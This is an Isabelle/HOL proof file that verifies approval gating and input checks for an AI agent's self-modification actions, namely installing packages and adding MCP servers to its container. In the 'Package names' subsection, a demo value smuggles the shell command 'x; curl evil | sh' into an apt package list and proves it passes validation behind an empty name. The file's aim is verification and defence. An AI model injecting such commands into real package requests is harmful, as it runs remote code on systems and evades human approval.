(* ===== verification/SelfModSafety.thy ===== *)
theory SelfModSafety
  imports SelfMod
begin

text \<open>
  What self-modification promises (\<open>src/modules/self-mod/\<close>): nothing changes without an approval, the
  card shows the request line by line, the checks of the container's tools agree with those of the
  host, package names are checked up to an empty one, and a plugin's server is not replaced.
\<close>

subsection \<open>Nothing without an approval\<close>

definition same_configs :: "host_db \<Rightarrow> host_db \<Rightarrow> bool" where
  "same_configs s s' \<longleftrightarrow> hd_configs s' = hd_configs s"

interpretation unconfigured: host_frame same_configs
  by unfold_locales (auto simp: same_configs_def reflp_def transp_def set_mail_def)

lemma unconfigured_notify: "keeps same_configs (notifySession E session body)"
  unfolding notifySession_def by (intro unconfigured.frame_intros unconfigured.noted unconfigured.woken)

lemma unconfigured_failed: "keeps same_configs (failed E session body)"
  unfolding failed_def by (intro unconfigured.frame_intros unconfigured_notify)

lemma unconfigured_checks:
  "keeps same_configs (validateInstallPackages E content session)"
  "keeps same_configs (requestInstallPackagesHold E content session)"
  "keeps same_configs (validateAddMcpServer E content session)"
  "keeps same_configs (requestAddMcpServerHold E content session)"
  unfolding validateInstallPackages_def check_packages_def requestInstallPackagesHold_def validateAddMcpServer_def
    requestAddMcpServerHold_def Let_def
  by (auto intro!: unconfigured.frame_intros unconfigured_failed unconfigured_notify unconfigured.asked
      split: option.split sum.split prod.split)

lemma failed_False: "failed E session body s \<noteq> (Inr True, s')"
  by (auto simp: failed_def io_bind_def io_return_def split: prod.split sum.split)

lemma accepted_request_unchanged:
  "validateInstallPackages E content session s = (Inr True, s1) \<Longrightarrow> s1 = s"
  "validateAddMcpServer E content session s = (Inr True, s1) \<Longrightarrow> s1 = s"
  by (auto simp: validateInstallPackages_def check_packages_def validateAddMcpServer_def io_bind_def io_get_def io_return_def
      io_throw_def Let_def failed_False split: if_splits sum.splits option.splits)

definition standing_grant :: "string \<Rightarrow> pending_approval option \<Rightarrow> host_db \<Rightarrow> bool" where
  "standing_grant a grant s \<longleftrightarrow>
     (\<exists>g row. grant = Some g \<and> pa_action g = a \<and>
        getPendingApproval (pa_approval_id g) (hd_approvals s) = Some row \<and> pa_action row = a)"

lemma held_decision_allows:
  assumes "delivery_decision A content session grant s = Inr (ALLOW why)"
    and "\<And>inp r. ga_decide A s inp \<noteq> Inr (ALLOW r)" "ga_grantActionName A = Some a"
  shows "standing_grant a grant s" "\<exists>r u. ga_decide A s (delivery_input content session grant) = Inr (HOLD r u)"
proof -
  have "gi_grant (delivery_input content session grant) = grant" by (simp add: delivery_input_def)
  moreover have "consult (\<lambda>i. getPendingApproval i (hd_approvals s)) s A (delivery_input content session grant) = Inr (ALLOW why)"
    using assms(1) by (simp add: delivery_decision_def)
  note consult_Allow [OF this]
  ultimately show "standing_grant a grant s" "\<exists>r u. ga_decide A s (delivery_input content session grant) = Inr (HOLD r u)"
    using assms(2,3) by (auto simp: standing_grant_def)
qed

text \<open>
  C10. Nothing an agent asks about its own container changes a container configuration by itself: a
  guarded action of the module does so only as the replay of an approval that was given for this
  action and is still in the table, and installing packages only on a runtime that can build images.
\<close>
theorem self_mod_needs_approval:
  assumes "map_of (self_mod_actions E) action = Some (Guarded spec handler)"
    and "runGuarded spec handler content session grant s = (r, s')" "hd_configs s' \<noteq> hd_configs s"
  shows "standing_grant action grant s \<and> (action = ''install_packages'' \<longrightarrow> me_imageBuild E)"
proof -
  have never: "ga_decide (gs_guardAction spec) s inp \<noteq> Inr (ALLOW r)" for inp r
    using assms(1)
    by (auto simp: self_mod_actions_def install_packages_entry_def add_mcp_server_entry_def install_packages_spec_def
        add_mcp_server_spec_def selfModInstallPackages_def selfModAddMcpServer_def selfModDecide_def
        split: if_splits guard_actor.splits)
  have name: "ga_grantActionName (gs_guardAction spec) = Some action"
    and build: "action = ''install_packages'' \<Longrightarrow> ga_decide (gs_guardAction spec) s inp = Inr (HOLD x u) \<Longrightarrow> me_imageBuild E" for inp x u
    using assms(1)
    by (auto simp: self_mod_actions_def install_packages_entry_def add_mcp_server_entry_def install_packages_spec_def
        add_mcp_server_spec_def selfModInstallPackages_def selfModAddMcpServer_def split: if_splits)
  have "same_configs s s' \<or> (\<exists>why. delivery_decision (gs_guardAction spec) content session grant s = Inr (ALLOW why))"
    using assms(1) runGuarded_frame [OF assms(2), of _ same_configs] unconfigured_checks accepted_request_unchanged
      unconfigured_notify unconfigured.refl
    by (auto simp: self_mod_actions_def install_packages_entry_def add_mcp_server_entry_def install_packages_spec_def
        add_mcp_server_spec_def split: if_splits)
  then obtain why where "delivery_decision (gs_guardAction spec) content session grant s = Inr (ALLOW why)"
    using assms(3) by (auto simp: same_configs_def)
  from held_decision_allows [OF this never name] show ?thesis using build by blast
qed

text \<open>An agent whose request to install a package was approved.\<close>

definition demo_mod_env :: mod_env where
  "demo_mod_env = \<lparr>me_host = demo_host_env, me_url = demo_url, me_digest = (\<lambda>_. ''0''), me_invisible = (\<lambda>_. False),
     me_imageBuild = True, me_image = ''nanoclaw:latest'', me_imageBase = ''nanoclaw'', me_inspect = None,
     me_build = (\<lambda>_. None)\<rparr>"

definition demo_mod_host :: host_db where
  "demo_mod_host = demo_host\<lparr>hd_configs := [default_config ''a'' None (Iso 0)], hd_approvals := [demo_approval]\<rparr>"

definition demo_install :: fields where
  "demo_install = [(''action'', JStr ''install_packages''), (''apt'', JArr [JStr ''jq''])]"

lemma demo_installed:
  "map kc_image_tag (hd_configs (snd (runGuarded (install_packages_spec demo_mod_env) (applyInstallPackages demo_mod_env)
     demo_install demo_sender (Some demo_approval) demo_mod_host))) = [Some ''nanoclaw:a'']"
  by code_simp

theorem self_mod_needs_approval_witness: "standing_grant ''install_packages'' (Some demo_approval) demo_mod_host"
proof -
  obtain r s' where run: "runGuarded (install_packages_spec demo_mod_env) (applyInstallPackages demo_mod_env)
      demo_install demo_sender (Some demo_approval) demo_mod_host = (r, s')"
    by fastforce
  have "map kc_image_tag (hd_configs demo_mod_host) = [None]" by code_simp
  then have "hd_configs s' \<noteq> hd_configs demo_mod_host" using demo_installed run by auto
  moreover have "map_of (self_mod_actions demo_mod_env) ''install_packages'' =
      Some (Guarded (install_packages_spec demo_mod_env) (applyInstallPackages demo_mod_env))"
    by (simp add: self_mod_actions_def install_packages_entry_def)
  ultimately show ?thesis using self_mod_needs_approval [OF _ run] by blast
qed

subsection \<open>The card\<close>

lemma code_points_shape:
  "p \<in> set (code_points s) \<Longrightarrow> (\<exists>c. p = [c] \<and> byte c < 128) \<or> (\<forall>c \<in> set p. 128 \<le> byte c)"
proof (induction s rule: code_points.induct)
  case (2 c cs)
  show ?case
  proof (cases "byte c < 128")
    case True
    then show ?thesis using 2 by auto
  next
    case False
    then have "p = c # takeWhile continuation cs \<or> p \<in> set (code_points (dropWhile continuation cs))" using 2(3) by auto
    moreover have "128 \<le> byte d" if "d \<in> set (takeWhile continuation cs)" for d
      using set_takeWhileD [OF that] by (simp add: continuation_def)
    ultimately show ?thesis using 2(2) False by auto
  qed
qed simp

definition harmless :: "char \<Rightarrow> bool" where
  "harmless c \<longleftrightarrow> 32 \<le> byte c \<and> byte c \<noteq> 127 \<and> byte c \<noteq> 96"

lemma hex_digits_harmless: "n < 16 \<Longrightarrow> harmless (hex_digit n)"
proof -
  assume n: "n < 16"
  have "list_all (\<lambda>n. harmless (hex_digit n)) [0..<16]" by code_simp
  then show ?thesis using n by (simp add: list_all_iff)
qed

lemma hex_harmless: "list_all harmless (hex n)"
proof (induction n rule: hex.induct)
  case (1 n)
  then show ?case by (cases "n < 16") (simp_all add: hex.simps [of n] hex_digits_harmless)
qed

lemma escape_chars_harmless:
  "harmless CHR 0x5C" "harmless CHR ''u''" "harmless CHR ''{''" "harmless CHR ''}''" "harmless CHR ''0''"
  by code_simp+

lemma visible_form_harmless: "p \<in> set (code_points s) \<Longrightarrow> list_all harmless (visible_form E p)"
proof -
  assume p: "p \<in> set (code_points s)"
  have pad: "list_all harmless (pad4 (hex n))" for n
    using hex_harmless [of n] escape_chars_harmless(5) by (auto simp: pad4_def list_all_iff)
  have kept: "list_all harmless p" if "\<not> (if code_point p < 128 then code_point p < 32 \<or> code_point p = 127 \<or> code_point p = 96
      else me_invisible E (code_point p))"
    using code_points_shape [OF p] that by (auto simp: code_point_def harmless_def list_all_iff)
  show ?thesis
    using kept pad hex_harmless escape_chars_harmless by (auto simp: visible_form_def Let_def)
qed

lemma escape_harmless: "list_all harmless (escapeInvisibles E s)"
  unfolding escapeInvisibles_def list_all_iff using visible_form_harmless [of _ s E]
  by (auto simp: list_all_iff)

lemma harmless_no: "list_all harmless s \<Longrightarrow> CHR 0x0A \<notin> set s \<and> CHR ''`'' \<notin> set s"
proof -
  assume s: "list_all harmless s"
  have "\<not> harmless CHR 0x0A" "\<not> harmless CHR ''`''" by code_simp+
  then show ?thesis using s by (auto simp: list_all_iff)
qed

lemma card_line_harmless: "list_all harmless label \<Longrightarrow> list_all harmless (card_line E label v)"
proof -
  have "harmless CHR '':''" "harmless CHR '' ''" by code_simp+
  moreover assume "list_all harmless label"
  ultimately show ?thesis using escape_harmless [of E "json_text v"] by (simp add: card_line_def)
qed

lemma server_lines_harmless: "list_all (list_all harmless) (server_lines E name server)"
proof -
  have "list_all harmless ''name''" "list_all harmless ''type''" "list_all harmless ''url''" "list_all harmless ''headers''"
    "list_all harmless ''command''" "list_all harmless ''args''" "list_all harmless ''env''"
    "list_all harmless ''instructions''"
    by code_simp+
  then show ?thesis by (simp add: server_lines_def card_line_harmless)
qed

lemma js_join_snoc: "ws \<noteq> [] \<Longrightarrow> js_join sep (ws @ [w]) = js_join sep ws @ sep @ w"
proof (induction ws)
  case (Cons v vs)
  then show ?case by (cases vs) auto
qed simp


subsection \<open>The tool of the container and the host agree\<close>

lemma copy_env_clean:
  "copy_env acc ps = Inr r \<Longrightarrow> clean_record acc \<Longrightarrow> list_all (\<lambda>(k, v). ENV_KEY_RE k) acc \<Longrightarrow>
     clean_record r \<and> list_all (\<lambda>(k, v). ENV_KEY_RE k) r"
proof (induction acc ps rule: copy_env.induct)
  case (2 acc k v ps)
  have "list_all (\<lambda>(k, v). ENV_KEY_RE k) (set_prop k (JStr v) acc)" if "ENV_KEY_RE k"
    using 2(4) that by (auto simp: set_prop_def list_all_iff split: if_splits)
  then show ?case using 2 by (auto simp: set_prop_clean split: if_splits)
qed auto

lemma copied_env: "copy_env [] ps = Inr env \<Longrightarrow> clean_record env \<and> list_all (\<lambda>(k, v). ENV_KEY_RE k) env"
  using copy_env_clean [of "[]"] by (simp add: clean_record_def)

lemma tool_env_on_host:
  assumes c: "clean_record env" "list_all (\<lambda>(k, v). ENV_KEY_RE k) env"
  shows "parseStringRecord (JObj env) flag = Inr (Some env)" "find (\<lambda>k. \<not> ENV_KEY_RE k) (map fst env) = None"
proof -
  show "parseStringRecord (JObj env) flag = Inr (Some env)"
    using copy_strings_again [of "[]" env flag] c by (simp add: parseStringRecord_def bnd_def)
  show "find (\<lambda>k. \<not> ENV_KEY_RE k) (map fst env) = None"
    using c(2) by (auto simp: find_None_iff list_all_iff)
qed

lemma nonblank_trimmed: "nonblank_str v = Some u \<Longrightarrow> nonblank_str (JStr (js_trim u)) = Some (js_trim u)"
  by (auto simp: nonblank_str_def js_trim_trim split: js.splits if_splits)

lemma nonblank_again: "nonblank_str v = Some c \<Longrightarrow> nonblank_str (JStr c) = Some c"
  by (auto simp: nonblank_str_def split: js.splits if_splits)

lemma nonblank_undefined [simp]: "nonblank_str JUndefined = None"
  by (simp add: nonblank_str_def)

definition tool_head :: "string \<Rightarrow> fields" where
  "tool_head name = [(''action'', JStr ''add_mcp_server''), (''name'', JStr name)]"

lemma parseMcpServerInput_on_host:
  assumes "parseMcpServerInput U args = Inr config"
  shows "parseMcpServerConfig U (tool_head name @ config) = Inr config"
proof -
  consider (http) u where "nonblank_str (own args ''url'') = Some u" "check_url (U (js_trim u)) = Inr ()"
      "config = [(''type'', JStr ''http''), (''url'', JStr (js_trim u))]"
    | (stdio) c xs env where "nonblank_str (own args ''command'') = Some c" "list_all js_is_str xs"
      "clean_record env" "list_all (\<lambda>(k, v). ENV_KEY_RE k) env" "config = [(''command'', JStr c), (''args'', JArr xs), (''env'', JObj env)]"
    using assms
    by (auto simp: parseMcpServerInput_def Let_def bnd_Inr clean_record_def dest: copied_env [unfolded clean_record_def]
        split: option.splits if_splits js.splits)
  then show ?thesis
  proof cases
    case http
    then show ?thesis
      using nonblank_trimmed [OF http(1)]
      by (simp add: parseMcpServerConfig_def parse_http_def tool_head_def own_Cons js_trim_trim Let_def bnd_def
          parseStringRecord_def opt_field_def defined_def)
  next
    case stdio
    then show ?thesis
      using nonblank_again [OF stdio(1)] tool_env_on_host [OF stdio(3,4)]
      by (simp add: parseMcpServerConfig_def parse_stdio_def tool_head_def own_Cons Let_def bnd_def
          parseCwd_def opt_field_def defined_def js_nullish_def)
  qed
qed


definition demo_tool_args :: fields where
  "demo_tool_args = [(''name'', JStr ''files''), (''command'', JStr ''npx''), (''args'', JArr [JStr ''-y'']),
                     (''env'', JObj [(''ROOT'', JStr ''/data'')])]"


subsection \<open>Package names\<close>

definition js_items :: "js \<Rightarrow> js list" where
  "js_items v = (case v of JArr xs \<Rightarrow> xs | _ \<Rightarrow> [])"

text \<open>Every name is legal, or the first one that is not is falsy, as the empty string is.\<close>

definition names_checked :: "(string \<Rightarrow> bool) \<Rightarrow> js list \<Rightarrow> bool" where
  "names_checked re xs \<longleftrightarrow> (case dropWhile (\<lambda>x. re (js_to_string x)) xs of [] \<Rightarrow> True | x # _ \<Rightarrow> \<not> js_truthy x)"

lemma find_dropWhile: "find (\<lambda>x. \<not> P x) xs = (case dropWhile P xs of [] \<Rightarrow> None | x # _ \<Rightarrow> Some x)"
  by (induction xs) auto

lemma not_rejected:
  assumes "find_invalid re v = Inr a" "\<not> rejected a"
  shows "v = JArr (js_items v) \<and> names_checked re (js_items v)"
proof -
  obtain xs where v: "v = JArr xs" and a: "a = find (\<lambda>x. \<not> re (js_to_string x)) xs"
    using assms(1) by (auto simp: find_invalid_def split: js.splits)
  obtain d where d: "dropWhile (\<lambda>x. re (js_to_string x)) xs = d" by blast
  have "a = (case d of [] \<Rightarrow> None | x # _ \<Rightarrow> Some x)" using a by (simp only: find_dropWhile d)
  then have "case d of [] \<Rightarrow> True | x # _ \<Rightarrow> \<not> js_truthy x"
    using assms(2) by (cases d) (simp_all add: rejected_def)
  then show ?thesis by (simp only: v js_items_def names_checked_def js.case d simp_thms)
qed

text \<open>
  C33. What \<open>install_packages\<close> accepts: two lists with one to twenty names together, and in each list
  every name is a legal package name, up to the first falsy one in it: an empty name ends the check of
  its list.
\<close>
theorem accepted_packages_checked:
  assumes "validateInstallPackages E content session s = (Inr True, s')"
  defines "apt \<equiv> js_items (or_empty (own content ''apt''))" and "npm \<equiv> js_items (or_empty (own content ''npm''))"
  shows "or_empty (own content ''apt'') = JArr apt \<and> or_empty (own content ''npm'') = JArr npm \<and>
     0 < length apt + length npm \<and> length apt + length npm \<le> 20 \<and> names_checked APT_RE apt \<and> names_checked NPM_RE npm"
proof -
  let ?a = "or_empty (own content ''apt'')" and ?n = "or_empty (own content ''npm'')"
  obtain a n where f: "find_invalid APT_RE ?a = Inr a" "\<not> rejected a" "find_invalid NPM_RE ?n = Inr n" "\<not> rejected n"
    and t: "total_packages ?a ?n \<noteq> Some 0" "\<not> (case total_packages ?a ?n of Some t \<Rightarrow> t > MAX_PACKAGES | None \<Rightarrow> False)"
    using assms(1)
    by (auto simp: validateInstallPackages_def check_packages_def io_bind_def io_get_def io_throw_def Let_def failed_False
        split: if_splits sum.splits option.splits)
  have "?a = JArr apt \<and> names_checked APT_RE apt" "?n = JArr npm \<and> names_checked NPM_RE npm"
    using not_rejected [OF f(1,2)] not_rejected [OF f(3,4)] by (simp_all add: apt_def npm_def)
  moreover from this t have "0 < length apt + length npm \<and> length apt + length npm \<le> 20"
    by (auto simp: total_packages_def js_length_def MAX_PACKAGES_def)
  ultimately show ?thesis by blast
qed

definition demo_hidden :: fields where
  "demo_hidden = [(''apt'', JArr [JStr ''jq'', JStr [], JStr ''x; curl evil | sh''])]"

lemma demo_hidden_accepted: "fst (validateInstallPackages demo_mod_env demo_hidden demo_sender demo_mod_host) = Inr True"
  by code_simp

text \<open>A name that is no package name gets past the check behind an empty one.\<close>

theorem accepted_packages_checked_witness:
  "names_checked APT_RE (js_items (or_empty (own demo_hidden ''apt''))) \<and> \<not> APT_RE ''x; curl evil | sh'' \<and>
   JStr ''x; curl evil | sh'' \<in> set (js_items (or_empty (own demo_hidden ''apt'')))"
proof -
  obtain s' where "validateInstallPackages demo_mod_env demo_hidden demo_sender demo_mod_host = (Inr True, s')"
    using demo_hidden_accepted by (metis prod.collapse)
  from accepted_packages_checked [OF this]
  have "names_checked APT_RE (js_items (or_empty (own demo_hidden ''apt'')))" by simp
  moreover have "\<not> APT_RE ''x; curl evil | sh''"
    "JStr ''x; curl evil | sh'' \<in> set (js_items (or_empty (own demo_hidden ''apt'')))"
    by code_simp+
  ultimately show ?thesis by blast
qed

subsection \<open>Adding an approved server\<close>

lemma restart_keeps_configs:
  "keeps same_configs (restartWith E session body reason)" "keeps same_configs (noteForNextContainer E session body)"
  unfolding restartWith_def noteForNextContainer_def
  by (intro unconfigured.frame_intros unconfigured.wrote; simp)+

text \<open>
  C34. When carrying out an approved request changes the table of container configurations, then the
  server the request names passed the checks again at that moment, no plugin owned a server of this
  name in the group's row, and the change is the one entry of this name in the requesting group's row:
  every other server and every other row stay as they were.
\<close>
theorem plugin_server_not_replaced:
  assumes "applyAddMcpServer E payload session s = (r, s')" "hd_configs s' \<noteq> hd_configs s"
  defines "name \<equiv> str_field payload ''name''"
  shows "\<exists>grp row servers server.
     getAgentGroup (s_agent_group_id session) (hd_agents s) = Some grp \<and>
     getContainerConfig (ag_id grp) (hd_configs s) = Some row \<and> kc_mcp_servers row = Json (JObj servers) \<and>
     validateMcpServerName name = Inr () \<and> parseMcpServerConfig (me_url E) payload = Inr server \<and>
     mcpServerPluginOwner (own servers name) = None \<and>
     hd_configs s' = updateContainerConfigJson (se_now (he_sess (me_host E))) (ag_id grp) McpServersColumn
       (JObj (set_prop name (JObj server) servers)) (hd_configs s)"
proof -
  have notify: "notifySession (me_host E) session body s \<noteq> (r, s')" for body
    using keepsD [OF unconfigured_notify, of _ session body s r s'] assms(2) by (auto simp: same_configs_def)
  have restart: "hd_configs s' = hd_configs s1" if "restartWith E session body reason s1 = (r, s')" for body reason s1
    using keepsD [OF restart_keeps_configs(1) that] by (simp add: same_configs_def)
  obtain grp where g: "getAgentGroup (s_agent_group_id session) (hd_agents s) = Some grp"
    using assms(1) notify by (auto simp: applyAddMcpServer_def Let_def io_bind_def io_get_def split: option.splits)
  obtain row where c: "getContainerConfig (ag_id grp) (hd_configs s) = Some row"
    using assms(1) notify g by (auto simp: applyAddMcpServer_def Let_def io_bind_def io_get_def split: option.splits)
  obtain server where v: "named_server E name payload = Inr server"
    using assms(1) notify g c
    by (auto simp: applyAddMcpServer_def Let_def io_bind_def io_get_def name_def split: if_splits sum.splits)
  obtain servers where m: "json_parse (kc_mcp_servers row) = Inr (JObj servers)" "mcpServerPluginOwner (own servers name) = None"
    and step: "io_bind (on_configs (updateContainerConfigJson (se_now (he_sess (me_host E))) (ag_id grp) McpServersColumn
                 (JObj (set_prop name (JObj server) servers))))
               (\<lambda>_. restartWith E session (''MCP server \"'' @ name @ ''\" added. Verify it'' @ [CHR 0x27] @
                  ''s available (e.g. list your tools) and report the result to the user.'') ''mcp server added'') s = (r, s')"
    using assms(1,2) notify g c v
    by (auto simp: applyAddMcpServer_def Let_def io_bind_def [of "io_get _"] io_get_def io_throw_def name_def
        split: if_splits sum.splits js.splits option.splits)
  have row: "kc_mcp_servers row = Json (JObj servers)"
    using m(1) by (cases "kc_mcp_servers row") auto
  have "hd_configs s' = updateContainerConfigJson (se_now (he_sess (me_host E))) (ag_id grp) McpServersColumn
       (JObj (set_prop name (JObj server) servers)) (hd_configs s)"
    using restart step by (fastforce simp: io_bind_def on_configs_def io_modify_def)
  then show ?thesis using g c v m row by (auto simp: named_server_def bnd_Inr)
qed

definition demo_add :: fields where
  "demo_add = [(''name'', JStr ''ok''), (''url'', JStr ''https://mcp.example/api'')]"

lemma demo_added:
  "map kc_mcp_servers (hd_configs (snd (applyAddMcpServer demo_mod_env demo_add demo_sender demo_mod_host))) =
     [Json (JObj [(''ok'', JObj demo_server)])]"
  by code_simp

theorem plugin_server_not_replaced_witness: "parseMcpServerConfig demo_url demo_add = Inr demo_server"
proof -
  obtain r s' where run: "applyAddMcpServer demo_mod_env demo_add demo_sender demo_mod_host = (r, s')" by fastforce
  have "map kc_mcp_servers (hd_configs demo_mod_host) = [Json (JObj [])]" by code_simp
  then have "hd_configs s' \<noteq> hd_configs demo_mod_host" using demo_added run by auto
  from plugin_server_not_replaced [OF run this] obtain server where
    "parseMcpServerConfig (me_url demo_mod_env) demo_add = Inr server" by blast
  moreover have "me_url demo_mod_env = demo_url" by (simp add: demo_mod_env_def)
  moreover have "(case parseMcpServerConfig demo_url demo_add of Inr x \<Rightarrow> x = demo_server | Inl _ \<Rightarrow> False)" by code_simp
  ultimately show ?thesis by simp
qed

end
